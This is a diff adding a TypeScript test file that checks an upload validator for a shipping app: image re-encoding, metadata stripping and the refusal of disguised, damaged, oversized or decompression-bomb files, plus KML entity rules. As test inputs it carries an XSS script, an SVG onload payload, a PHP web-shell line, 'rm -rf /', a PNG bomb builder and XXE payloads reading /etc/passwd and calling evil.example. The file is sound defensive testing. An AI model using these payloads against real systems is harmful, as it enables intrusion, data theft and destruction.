@@ -1,0 +1,221 @@
+import { crc32, deflateSync } from 'node:zlib'
+import { mayUpload } from '@waybill/domain/files/kinds'
+import { systemActor } from '@waybill/domain/kit/actor'
+import { Problem } from '@waybill/domain/kit/problem'
+import sharp from 'sharp'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { checkFile } from './check-file.ts'
+
+const script = '<script>alert(document.domain)</script>'
+const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
+const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n')
+const kml =
+  '<?xml version="1.0"?><!-- a zone --><kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>'
+
+let jpeg: Buffer
+let png: Buffer
+let upside_down: Buffer
+
+beforeAll(async () => {
+  const drawing = () => sharp({ create: { width: 40, height: 20, channels: 3, background: '#0a0' } })
+  jpeg = await drawing()
+    .withExif({ IFD0: { Copyright: 'Naledi Mokoena', ImageDescription: script } })
+    .jpeg()
+    .toBuffer()
+  png = await drawing().png().toBuffer()
+  upside_down = await drawing().withMetadata({ orientation: 6 }).jpeg().toBuffer()
+})
+
+/** A piece of a PNG file with its checksum. */
+function piece(kind: string, content: Buffer): Buffer {
+  const body = Buffer.concat([Buffer.from(kind, 'latin1'), content])
+  const frame = Buffer.alloc(8)
+  frame.writeUInt32BE(content.length, 0)
+  frame.writeUInt32BE(crc32(body), 4)
+  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
+}
+
+/** A PNG that says it has so many pixels; its content, few bytes as sent, unpacks to as much as it says. */
+function bomb(width: number, height: number, rows = 0): Buffer {
+  const head = Buffer.alloc(13)
+  head.writeUInt32BE(width, 0)
+  head.writeUInt32BE(height, 4)
+  head.set([8, 0, 0, 0, 0], 8)
+  const content = deflateSync(Buffer.alloc(rows * (width + 1)))
+  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
+  return Buffer.concat([
+    signature,
+    piece('IHDR', head),
+    piece('IDAT', content),
+    piece('IEND', Buffer.alloc(0)),
+  ])
+}
+
+/** A file extended by a piece of text that no reader of pictures looks at. */
+const withTail = (bytes: Buffer, tail: string) => Buffer.concat([bytes, Buffer.from(tail)])
+
+async function refusal(file_name: string, bytes: Buffer, folder = 'shipment-images'): Promise<string> {
+  const outcome = await checkFile(folder, file_name, bytes).catch((error: unknown) => error)
+  return outcome instanceof Problem ? outcome.message : `taken: ${file_name}`
+}
+
+describe('a picture that is sent', () => {
+  it('is drawn anew: upright, its size known, without a word of what it carried', async () => {
+    expect(jpeg.includes('Naledi')).toBe(true)
+    const taken = await checkFile('shipment-images', 'door.jpg', jpeg)
+    expect([taken.content_type, taken.width, taken.height]).toEqual(['image/jpeg', 40, 20])
+    expect(taken.bytes.includes('Naledi') || taken.bytes.includes('script')).toBe(false)
+    const { format, exif, icc, xmp } = await sharp(taken.bytes).metadata()
+    expect([format, exif, icc, xmp]).toEqual(['jpeg', undefined, undefined, undefined])
+    const turned = await checkFile('shipment-images', 'door.jpeg', upside_down)
+    expect([turned.width, turned.height]).toEqual([20, 40])
+    expect((await checkFile('shipment-images', 'Door.PNG', png)).content_type).toBe('image/png')
+  })
+
+  it('loses whatever hides inside and behind it', async () => {
+    const text_piece = Buffer.concat([
+      png.subarray(0, -12),
+      piece('tEXt', Buffer.from(`Comment\0${script}`)),
+      png.subarray(-12),
+    ])
+    const archive = `PK\u0003\u0004${script}PK\u0005\u0006`
+    const carriers: [name: string, bytes: Buffer][] = [
+      ['page.png', withTail(png, `<html>${script}</html>`)],
+      ['page.jpg', withTail(jpeg, `<html>${script}</html>`)],
+      ['archive.png', withTail(png, archive)],
+      ['archive.jpg', withTail(jpeg, archive)],
+      ['program.jpg', withTail(jpeg, `<?php system($_GET['c']); ?>${script}`)],
+      ['document.png', withTail(png, `%PDF-1.7 ${script} %%EOF`)],
+      ['comment.png', text_piece],
+    ]
+    for (const [name, bytes] of carriers) {
+      const taken = await checkFile('shipment-images', name, bytes)
+      expect(taken.bytes.includes('script') || taken.bytes.includes('PK'), name).toBe(false)
+    }
+  })
+
+  it('is refused when it is something else under that name', async () => {
+    const liars: [name: string, bytes: Buffer][] = [
+      ['logo.png', Buffer.from(svg)],
+      ['logo.jpg', Buffer.from(svg)],
+      ['logo.jpeg', Buffer.from(`<html>${script}</html>`)],
+      ['logo.png', jpeg],
+      ['logo.jpg', png],
+      ['logo.png', Buffer.from('GIF89a')],
+      ['logo.jpg', Buffer.from('RIFF\u0000\u0000\u0000\u0000WEBPVP8 ')],
+      ['logo.jpg', pdf],
+      ['logo.png', Buffer.from('MZ\u0090\u0000')],
+      ['logo.jpg', Buffer.from('\u007fELF')],
+      ['logo.jpg', Buffer.from('#!/bin/sh\nrm -rf /')],
+    ]
+    for (const [name, bytes] of liars)
+      expect(await refusal(name, bytes), String(bytes).slice(0, 12)).toBe(
+        `${name} is not a ${name.split('.')[1]} file. Send it under its right name.`,
+      )
+  })
+
+  it('is refused when it is damaged', async () => {
+    const damaged: [name: string, bytes: Buffer][] = [
+      ['torn.jpg', jpeg.subarray(0, jpeg.length - 60)],
+      ['torn.png', png.subarray(0, png.length - 40)],
+      ['head.jpg', jpeg.subarray(0, 20)],
+      ['head.png', png.subarray(0, 20)],
+      ['start.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
+      ['flat.png', bomb(0, 0)],
+    ]
+    for (const [name, bytes] of damaged)
+      expect(await refusal(name, bytes)).toBe(
+        `${name} is damaged and cannot be opened. Save it again as a picture and send that.`,
+      )
+  })
+
+  it('is refused before it is decoded when it has too many pixels', async () => {
+    expect(await refusal('bomb.png', bomb(30_000, 30_000))).toBe(
+      'bomb.png has 30000 × 30000 pixels; at most 50 million fit. Send a smaller one.',
+    )
+    const packed = bomb(50_000, 1_001, 1_001)
+    expect(packed.length).toBeLessThan(100_000)
+    const started = performance.now()
+    expect(await refusal('packed.png', packed)).toContain('at most 50 million')
+    expect(performance.now() - started).toBeLessThan(1_000)
+  })
+
+  it('is refused when it has too many bytes, a logo sooner than a photo', async () => {
+    const heavy = withTail(png, ' '.repeat(10 * 1024 * 1024))
+    expect(await refusal('photo.png', heavy)).toBe('photo.png is larger than 10 MB. Send a smaller one.')
+    const logo = withTail(png, ' '.repeat(2 * 1024 * 1024))
+    expect(await refusal('logo.png', logo, 'provider-assets')).toBe(
+      'logo.png is larger than 2 MB. Send a smaller one.',
+    )
+    expect(await refusal('logo.png', logo)).toBe('taken: logo.png')
+    expect(await refusal('logo.png', Buffer.alloc(0))).toBe('logo.png is empty. Send it again.')
+  })
+})
+
+describe('other files that are sent', () => {
+  it('[FMT-027] are jpg, jpeg, png, pdf, csv and kml, whatever the case, and nothing else', async () => {
+    for (const name of [
+      'a.svg',
+      'a.html',
+      'a.htm',
+      'a.js',
+      'a.gif',
+      'a.webp',
+      'a.php',
+      'a.exe',
+      'a',
+      'png',
+      'a.png.svg',
+    ])
+      expect(await refusal(name, Buffer.from(svg)), name).toMatch(/^Files of this kind cannot be stored/)
+    expect(await refusal('A.PDF', pdf)).toBe('taken: A.PDF')
+    expect(await refusal('a.Csv', Buffer.from('a,b\n'), 'imports')).toBe('taken: a.Csv')
+    expect(await refusal('a.KML', Buffer.from(kml), 'imports')).toBe('taken: a.KML')
+  })
+
+  it('are whole documents of their kind', async () => {
+    expect(await refusal('a.pdf', Buffer.from(`<html>${script}`))).toContain('is not a pdf file')
+    expect(await refusal('a.pdf', Buffer.from('%PDF-1.7 and no more'))).toContain('ends too early')
+    expect(await refusal('a.csv', png, 'imports')).toContain('is not a csv file')
+    expect(await refusal('a.csv', Buffer.from('a,b\u0000'), 'imports')).toContain('is not a csv file')
+    for (const text of [
+      svg,
+      `<html>${script}</html>`,
+      '',
+      'kml',
+      '<!-- never ends',
+      '<kmlx/>',
+      '\u0000<kml/>',
+    ])
+      expect(await refusal('a.kml', Buffer.from(text || ' '), 'imports'), text).toContain('is not a kml file')
+    expect(await refusal('a.kml', Buffer.from([0xff, 0xfe, 0x3c]), 'imports')).toContain('is not a kml file')
+  })
+
+  it('may not declare XML entities', async () => {
+    for (const declaration of [
+      '<!DOCTYPE kml [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>',
+      '<!DOCTYPE kml SYSTEM "file:///etc/passwd">',
+      '<!doctype kml [<!entity % x SYSTEM "http://evil.example/x">]>',
+    ])
+      expect(await refusal('a.kml', Buffer.from(`${declaration}<kml>&b;</kml>`), 'imports')).toBe(
+        'a.kml declares XML entities of its own, which are not read. Export it again without them.',
+      )
+  })
+
+  it('[REP-010] go to folders that take their kind, from whom may send them', () => {
+    const staff = { ...systemActor(1), kind: 'user' as const, role_id: 3, permissions: ['API_/s3-url/*'] }
+    const administrator = { ...staff, permissions: ['API_/providers/settings:POST'] }
+    const customer = { ...administrator, account_id: 5, role_id: 5 }
+    const may = (actor: typeof staff, folder: Parameters<typeof mayUpload>[1], name: string) =>
+      mayUpload(actor, folder, name) === true
+    expect(may(staff, 'shipment-images', 'a.jpg')).toBe(true)
+    expect(may(staff, 'shipment-images', 'a.csv')).toBe(false)
+    expect(may(staff, 'provider-assets', 'a.png')).toBe(false)
+    expect(may(customer, 'provider-assets', 'a.png')).toBe(false)
+    expect(may(administrator, 'provider-assets', 'a.png')).toBe(true)
+    expect(may(administrator, 'provider-assets', 'a.pdf')).toBe(false)
+    expect(may(staff, 'imports', 'a.csv')).toBe(true)
+    expect(may(customer, 'imports', 'a.csv')).toBe(false)
+    expect(may(administrator, 'exports', 'a.csv')).toBe(false)
+  })
+})
